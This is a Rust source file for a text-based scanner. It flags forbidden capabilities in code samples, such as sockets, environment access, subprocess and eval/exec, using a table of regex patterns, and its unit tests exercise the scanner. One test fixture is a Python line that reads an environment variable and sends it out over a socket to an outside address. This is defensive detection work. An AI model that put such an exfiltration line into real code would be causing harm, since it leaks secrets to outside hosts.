//! Indicator scanner — lexical detection of forbidden-capability markers.
//!
//! Scanning is purely textual: a fixed, ordered table of named patterns is
//! matched against raw source text. The sample is never executed here;
//! execution-based detection is the sandbox runner's job. Same text in,
//! same set out.

use std::collections::BTreeSet;

use regex::RegexBuilder;
use serde::{Deserialize, Serialize};
use tracing::warn;

/// Indicator names found in a sample. Membership only; a pattern matching
/// many times still counts once.
pub type IndicatorSet = BTreeSet<String>;

/// One named detection pattern, as configured.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct IndicatorPattern {
    pub name: String,
    pub pattern: String,
}

impl IndicatorPattern {
    pub fn new(name: &str, pattern: &str) -> Self {
        Self {
            name: name.to_string(),
            pattern: pattern.to_string(),
        }
    }
}

/// Forbidden-capability markers: imports, attribute access, and call
/// shapes associated with networking, environment access, and dynamic
/// execution.
pub fn default_patterns() -> Vec<IndicatorPattern> {
    vec![
        IndicatorPattern::new("socket", r"\bsocket\b"),
        IndicatorPattern::new("os.environ", r"os\.environ"),
        IndicatorPattern::new("os.getenv", r"os\.getenv"),
        IndicatorPattern::new("connect", r"\.connect\s*\("),
        IndicatorPattern::new("sendto", r"\.sendto\s*\("),
        IndicatorPattern::new("sendall", r"\.sendall\s*\("),
        IndicatorPattern::new("urllib", r"\burllib\b"),
        IndicatorPattern::new("requests", r"\brequests\b"),
        IndicatorPattern::new("subprocess", r"\bsubprocess\b"),
        IndicatorPattern::new("eval", r"\beval\s*\("),
        IndicatorPattern::new("exec", r"\bexec\s*\("),
        IndicatorPattern::new("base64", r"\bbase64\b"),
    ]
}

pub const DEFAULT_TABLE_VERSION: &str = "builtin-1";

struct CompiledIndicator {
    name: String,
    regex: regex::Regex,
}

/// Compiled, versioned table of indicator patterns.
///
/// The detection surface is explicit configuration, auditable and
/// testable in isolation from the sandbox.
pub struct IndicatorTable {
    version: String,
    patterns: Vec<CompiledIndicator>,
}

impl IndicatorTable {
    /// Compiles a pattern table. Patterns that fail to compile are logged
    /// and skipped rather than failing the whole table.
    pub fn new(version: &str, patterns: &[IndicatorPattern]) -> Self {
        let patterns = patterns
            .iter()
            .filter_map(|p| {
                match RegexBuilder::new(&p.pattern).case_insensitive(true).build() {
                    Ok(regex) => Some(CompiledIndicator {
                        name: p.name.clone(),
                        regex,
                    }),
                    Err(e) => {
                        warn!("scanner: skipping pattern '{}': {e}", p.name);
                        None
                    }
                }
            })
            .collect();
        Self {
            version: version.to_string(),
            patterns,
        }
    }

    pub fn with_defaults() -> Self {
        Self::new(DEFAULT_TABLE_VERSION, &default_patterns())
    }

    pub fn version(&self) -> &str {
        &self.version
    }

    pub fn len(&self) -> usize {
        self.patterns.len()
    }

    pub fn is_empty(&self) -> bool {
        self.patterns.is_empty()
    }

    /// Scans raw source text and returns the indicators it contains.
    ///
    /// Deterministic and side-effect-free. Unusable input degrades to an
    /// empty set with a logged warning, never an error.
    pub fn scan(&self, text: &str) -> IndicatorSet {
        if text.is_empty() {
            warn!("scanner: empty sample text, nothing to scan");
            return IndicatorSet::new();
        }
        self.patterns
            .iter()
            .filter(|p| p.regex.is_match(text))
            .map(|p| p.name.clone())
            .collect()
    }
}

impl Default for IndicatorTable {
    fn default() -> Self {
        Self::with_defaults()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const EXFIL_SAMPLE: &str =
        "import socket\nimport os\nsocket.socket().sendto(os.environ['K'].encode(), ('8.8.8.8',53))";
    const CLEAN_SAMPLE: &str = "def fib(n):\n a,b=0,1\n return a";

    #[test]
    fn test_scan_finds_exfil_markers() {
        let table = IndicatorTable::with_defaults();
        let found = table.scan(EXFIL_SAMPLE);
        assert!(found.contains("socket"));
        assert!(found.contains("os.environ"));
        assert!(found.contains("sendto"));
    }

    #[test]
    fn test_scan_clean_sample_is_empty() {
        let table = IndicatorTable::with_defaults();
        assert!(table.scan(CLEAN_SAMPLE).is_empty());
    }

    #[test]
    fn test_scan_is_deterministic() {
        let table = IndicatorTable::with_defaults();
        assert_eq!(table.scan(EXFIL_SAMPLE), table.scan(EXFIL_SAMPLE));
    }

    #[test]
    fn test_scan_counts_membership_once() {
        let table = IndicatorTable::with_defaults();
        let found = table.scan("import socket\nsocket\nsocket\nsocket");
        assert_eq!(found.iter().filter(|n| *n == "socket").count(), 1);
    }

    #[test]
    fn test_scan_is_case_insensitive() {
        let table = IndicatorTable::with_defaults();
        assert!(table.scan("import SOCKET").contains("socket"));
    }

    #[test]
    fn test_empty_text_degrades_to_empty_set() {
        let table = IndicatorTable::with_defaults();
        assert!(table.scan("").is_empty());
    }

    #[test]
    fn test_bad_pattern_skipped_not_fatal() {
        let patterns = vec![
            IndicatorPattern::new("broken", r"([unclosed"),
            IndicatorPattern::new("socket", r"\bsocket\b"),
        ];
        let table = IndicatorTable::new("test", &patterns);
        assert_eq!(table.len(), 1);
        assert!(table.scan("socket").contains("socket"));
    }

    #[test]
    fn test_eval_requires_call_shape() {
        let table = IndicatorTable::with_defaults();
        assert!(table.scan("eval(code)").contains("eval"));
        assert!(!table.scan("evaluation of results").contains("eval"));
    }

    #[test]
    fn test_custom_table_version() {
        let table = IndicatorTable::new("v2", &[IndicatorPattern::new("ftp", r"\bftplib\b")]);
        assert_eq!(table.version(), "v2");
        assert!(table.scan("import ftplib").contains("ftp"));
        assert!(table.scan("import socket").is_empty());
    }
}
